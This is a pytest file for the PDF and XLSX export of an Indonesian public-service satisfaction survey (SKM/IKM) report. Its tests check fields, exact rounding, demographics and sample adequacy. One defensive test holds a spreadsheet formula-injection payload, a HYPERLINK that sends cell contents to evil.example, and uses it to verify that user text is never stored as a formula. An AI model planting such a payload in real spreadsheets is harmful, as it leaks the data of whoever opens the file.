"""The SKM report as PDF (read back with pypdf) and XLSX (read back with openpyxl): every field
the report promises, the comparison with the previous period, demographics, saran and the
sample-adequacy note. Pure rendering: no database."""

from __future__ import annotations

import os
import re
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from kinerja.surveys import reports
from kinerja.surveys.reports import SkmReportData, render_report_pdf, render_report_xlsx
from kinerja.surveys.rules import ikm_from_answers

# Current period: 4 respondents. U4 (Biaya/Tarif) is the weakest unsur.
CURRENT_ROWS = [
    [4, 4, 3, 2, 4, 4, 4, 3, 4],
    [4, 3, 3, 2, 4, 4, 4, 3, 3],
    [3, 4, 4, 3, 4, 4, 4, 3, 4],
    [4, 4, 3, 2, 3, 4, 4, 3, 4],
]
PREVIOUS_ROWS = [[3, 3, 3, 3, 3, 3, 3, 3, 3], [3, 3, 2, 2, 3, 4, 3, 3, 3]]
GENERATED = datetime(2026, 7, 3, 2, 15, tzinfo=UTC)  # 09.15 WIB


def report(**changes: object) -> SkmReportData:
    data = SkmReportData(
        title="LAPORAN SURVEI KEPUASAN MASYARAKAT",
        instansi_name="Pemerintah Kabupaten Contoh",
        unit_name="Dinas Kependudukan dan Pencatatan Sipil",
        layanan_name="Penerbitan KTP-el",
        period_label="Semester I 2026",
        result=ikm_from_answers(CURRENT_ROWS),
        previous=ikm_from_answers(PREVIOUS_ROWS),
        previous_label="Semester II 2025",
        demographics={
            "usia": {"< 20 tahun": 1, "20–40 tahun": 2, "> 40 tahun": 1},
            "jenis_kelamin": {"Laki-laki": 3, "Perempuan": 1},
            "pendidikan": {"SMA": 2, "S1": 2},
            "pekerjaan": {"Wiraswasta": 1, "Pelajar/Mahasiswa": 3},
        },
        saran=["Antrean pagi terlalu panjang", "Tambah kursi di ruang tunggu"],
        sample_minimum=None,
        population=100,
        generated_at=GENERATED,
    )
    return replace(data, **changes)  # type: ignore[arg-type]


def pdf_text(data: bytes) -> str:
    target = os.environ.get("KINERJA_SKM_PDF_OUT")
    if target:  # to look at the layout: KINERJA_SKM_PDF_OUT=/tmp pytest -k …
        (Path(target) / "skm-report.pdf").write_bytes(data)
    reader = PdfReader(BytesIO(data))
    return re.sub(r"\s+", " ", " ".join(page.extract_text() or "" for page in reader.pages))


def workbook(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(BytesIO(data))


def rows_of(sheet) -> list[tuple[object, ...]]:  # type: ignore[no-untyped-def]
    return [tuple(c for c in row) for row in sheet.iter_rows(values_only=True)]


# --- numbers both exports share -----------------------------------------------------------


def test_the_example_numbers() -> None:
    current = ikm_from_answers(CURRENT_ROWS)
    previous = ikm_from_answers(PREVIOUS_ROWS)
    # total 126 over 36 answers: 126/36 = 3.5; ×25 = 87.50 B; previous 53/18 → 73.61 C
    assert (str(current.ikm), str(current.ikm_konversi), current.mutu) == ("3.5000", "87.50", "B")
    assert str(current.nrr[3]) == "2.2500"
    assert (str(previous.ikm_konversi), previous.mutu) == ("73.61", "C")
    view = reports.report_view(report())
    assert view.weakest.code == "U4"
    assert str(view.unsur[3].tertimbang) == "0.2500"
    assert str(view.unsur[2].delta) == "0.7500"  # 3.25 − 2.50
    assert view.trend == "naik 13,89 poin"
    assert (view.sample_minimum, view.sample_adequate) == (80, False)


# --- PDF ------------------------------------------------------------------------------------


def test_pdf_shows_every_field() -> None:
    data = render_report_pdf(report())
    assert data.startswith(b"%PDF")
    text = pdf_text(data)
    for expected in (
        "LAPORAN SURVEI KEPUASAN MASYARAKAT",
        "Pemerintah Kabupaten Contoh",
        "Layanan Penerbitan KTP-el — Unit Dinas Kependudukan dan Pencatatan Sipil",
        "Periode: Semester I 2026",
        "Jumlah responden 4",
        "IKM (skala 1–4) 3,5000",
        "IKM konversi (skala 25–100) 87,50",
        "Mutu pelayanan B (Baik)",
        "U4 Biaya/Tarif (NRR 2,2500)",
        # per-unsur table: NRR, NRR tertimbang, previous NRR, delta
        "1 U1 Persyaratan 3,7500 0,4167 3,0000 +0,7500",
        "4 U4 Biaya/Tarif 2,2500 0,2500 2,5000 -0,2500",
        "9 U9 Sarana dan Prasarana 3,7500 0,4167 3,0000 +0,7500",
        "IKM = Σ NRR × 1/9 (dihitung tepat) 3,5000",
        # comparison
        "Perbandingan dengan Semester II 2025",
        "IKM konversi Semester II 2025 73,61 (mutu C, 2 responden)",
        "Perubahan +13,89 (naik 13,89 poin)",
        # demographics
        "Usia Jumlah %",
        "20–40 tahun 2 50,0",
        "Laki-laki 3 75,0",
        "Pelajar/Mahasiswa 3 75,0",
        # saran and sample note
        "Antrean pagi terlalu panjang",
        "Tambah kursi di ruang tunggu",
        "Sampel belum memadai: 4 responden dari minimum Krejcie–Morgan 80 untuk populasi 100 "
        "(kurang 76)",
        "Dibuat 3 Juli 2026 09.15",
    ):
        assert expected in text, expected
    assert "Halaman 1 dari" in text


def test_pdf_without_previous_period_layanan_or_saran() -> None:
    text = pdf_text(
        render_report_pdf(
            report(previous=None, previous_label=None, layanan_name=None, saran=[], population=None)
        )
    )
    assert "Perbandingan" not in text and "Selisih" not in text
    assert "Unit Dinas Kependudukan dan Pencatatan Sipil" in text
    assert "Layanan" not in text.split("Periode")[0]
    assert "Tidak ada saran." in text
    assert "Populasi pengguna layanan belum diisi" in text
    assert "1 U1 Persyaratan 3,7500 0,4167 2 U2" in text


def test_pdf_adequate_sample_and_escaped_saran() -> None:
    text = pdf_text(
        render_report_pdf(report(population=None, sample_minimum=3, saran=["<b>Bagus</b> & cepat"]))
    )
    assert "Sampel memadai: 4 responden, minimum Krejcie–Morgan 3." in text
    assert "<b>Bagus</b> & cepat" in text  # shown as typed, not as markup


# --- XLSX -----------------------------------------------------------------------------------


def test_xlsx_summary_sheet_has_every_field() -> None:
    book = workbook(render_report_xlsx(report()))
    assert book.sheetnames == ["Ringkasan", "Responden", "Saran"]
    rows = rows_of(book["Ringkasan"])
    by_label = {row[0]: row[1] for row in rows if row and isinstance(row[0], str)}
    assert rows[0][0] == "LAPORAN SURVEI KEPUASAN MASYARAKAT"
    assert by_label["Instansi"] == "Pemerintah Kabupaten Contoh"
    assert by_label["Cakupan"] == (
        "Layanan Penerbitan KTP-el — Unit Dinas Kependudukan dan Pencatatan Sipil"
    )
    assert by_label["Periode"] == "Semester I 2026"
    assert by_label["Dibuat"] == "3 Juli 2026 09.15"
    assert by_label["Jumlah responden"] == 4
    assert by_label["IKM (skala 1–4)"] == pytest.approx(3.5)
    assert by_label["IKM konversi (25–100)"] == pytest.approx(87.5)
    assert by_label["Mutu pelayanan"] == "B"
    assert by_label["Kinerja unit pelayanan"] == "Baik"
    assert by_label["Unsur terendah"] == "U4 Biaya/Tarif"
    assert str(by_label["Kecukupan sampel"]).startswith("Sampel belum memadai: 4 responden")
    assert by_label["IKM konversi Semester II 2025"] == pytest.approx(73.61)
    assert by_label["Mutu periode sebelumnya"] == "C"
    assert by_label["Perubahan IKM konversi"] == pytest.approx(13.89)
    head = rows.index(
        ("No", "Unsur pelayanan", "NRR", "NRR tertimbang", "NRR sebelumnya", "Selisih")
    )
    table = rows[head + 1 : head + 10]
    assert [r[1] for r in table][:2] == ["U1 Persyaratan", "U2 Sistem, Mekanisme, dan Prosedur"]
    assert table[3][:2] == (4, "U4 Biaya/Tarif")
    assert table[3][2:] == pytest.approx((2.25, 0.25, 2.5, -0.25))
    assert table[0][2:] == pytest.approx((3.75, 0.4167, 3.0, 0.75))
    assert rows[head + 10][1] == "IKM = Σ NRR × 1/9 (dihitung tepat)"
    assert rows[head + 10][3] == pytest.approx(3.5)
    sheet = book["Ringkasan"]
    assert sheet.cell(row=head + 2, column=3).number_format == "0.0000"


def test_xlsx_demographics_and_saran() -> None:
    book = workbook(render_report_xlsx(report()))
    demo = rows_of(book["Responden"])
    assert ("Usia", "Jumlah", "Persen") in demo
    assert ("20–40 tahun", 2, 50.0) in demo
    assert ("Perempuan", 1, 25.0) in demo
    assert ("Jenis kelamin", "Jumlah", "Persen") in demo
    assert ("Pendidikan", "Jumlah", "Persen") in demo
    assert ("Pekerjaan", "Jumlah", "Persen") in demo
    assert demo.count(("Jumlah", 4, 100.0)) == 4
    saran = rows_of(book["Saran"])
    assert saran == [
        ("No", "Saran dan masukan responden"),
        (1, "Antrean pagi terlalu panjang"),
        (2, "Tambah kursi di ruang tunggu"),
    ]


def test_xlsx_without_previous_period_or_saran() -> None:
    book = workbook(render_report_xlsx(report(previous=None, previous_label=None, saran=[])))
    rows = rows_of(book["Ringkasan"])
    assert ("No", "Unsur pelayanan", "NRR", "NRR tertimbang") in [r[:4] for r in rows]
    assert not any("sebelumnya" in str(cell) for row in rows for cell in row)
    assert rows_of(book["Saran"])[1] == ("-", "Tidak ada saran.")


# --- helpers --------------------------------------------------------------------------------


def test_empty_demographic_category_and_unknown_keys() -> None:
    view = reports.report_view(report(demographics={"usia": {}, "domisili": {"Kota": 2}}))
    assert [t.title for t in view.demographics] == ["Usia", "Domisili"]
    assert view.demographics[0].total == 0
    assert view.demographics[1].rows[0].percent == "100,0"


def test_sample_note_variants() -> None:
    assert reports.sample_note(80, 80, 100).startswith("Sampel memadai: 80 responden")
    assert "kurang 1" in reports.sample_note(79, 80, 100)
    assert "belum diisi" in reports.sample_note(5, None, None)
    assert reports.report_view(report(population=1000)).sample_minimum == 278
    assert reports.report_view(report(population=None, sample_minimum=None)).sample_adequate is None


def test_filename() -> None:
    assert reports.report_filename(report(), "pdf") == (
        "SKM-dinas-kependudukan-dan-pencatatan-sipil-penerbitan-ktp-el-semester-i-2026.pdf"
    )
    assert reports.report_filename(report(layanan_name=None), "xlsx").endswith(
        "sipil-semester-i-2026.xlsx"
    )


def test_xlsx_user_text_is_never_a_formula() -> None:
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Klik untuk detail")'
    content = render_report_xlsx(
        report(saran=[attack, "=1+1", "@SUM(A1)"], instansi_name="=1+2", period_label="-2+3")
    )
    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)
    book = workbook(content)
    assert rows_of(book["Saran"])[1:] == [(1, attack), (2, "=1+1"), (3, "@SUM(A1)")]
    summary = [row[:2] for row in rows_of(book["Ringkasan"])]
    assert ("Instansi", "=1+2") in summary
    assert ("Periode", "-2+3") in summary


def test_selisih_is_the_exact_change_rounded_once() -> None:
    # U2: 11/3 now, 7/3 before; the rounded NRR 3,6667 − 2,3333 would give +1,3334.
    now = [[3, 4, 3, 3, 3, 3, 3, 3, 3], [3, 4, 3, 3, 3, 3, 3, 3, 3], [3, 3, 3, 3, 3, 3, 3, 3, 3]]
    before = [[3, 3, 3, 3, 3, 3, 3, 3, 3], [3, 2, 3, 3, 3, 3, 3, 3, 3], [3, 2, 3, 3, 3, 3, 3, 3, 3]]
    current, previous = ikm_from_answers(now), ikm_from_answers(before)
    data = report(result=current, previous=previous)
    assert str(reports.report_view(data).unsur[1].delta) == "1.3333"
    text = pdf_text(render_report_pdf(data))
    assert "2 U2 Sistem, Mekanisme, dan Prosedur 3,6667 0,4074 2,3333 +1,3333" in text
    rows = rows_of(workbook(render_report_xlsx(data))["Ringkasan"])
    u2 = next(r for r in rows if r and r[1] == "U2 Sistem, Mekanisme, dan Prosedur")
    assert u2[2:] == pytest.approx((3.6667, 0.4074, 2.3333, 1.3333), abs=1e-9)
    swapped = reports.report_view(replace(data, result=previous, previous=current))
    assert str(swapped.unsur[1].delta) == "-1.3333"


def test_the_konversi_change_is_exact_too() -> None:
    # 30,56 now and 26,85 before, but the exact change is 100/27 = 3,7037: +3,70, not +3,71.
    current = ikm_from_answers([[1] * 8 + [3]])
    previous = ikm_from_answers([[1] * 9, [1] * 9, [1] * 8 + [3]])
    data = report(result=current, previous=previous)
    assert reports.report_view(data).trend == "naik 3,70 poin"
    assert "Perubahan +3,70 (naik 3,70 poin)" in pdf_text(render_report_pdf(data))
    rows = rows_of(workbook(render_report_xlsx(data))["Ringkasan"])
    by_label = {row[0]: row[1] for row in rows if row and isinstance(row[0], str)}
    assert by_label["Perubahan IKM konversi"] == pytest.approx(3.70, abs=1e-9)
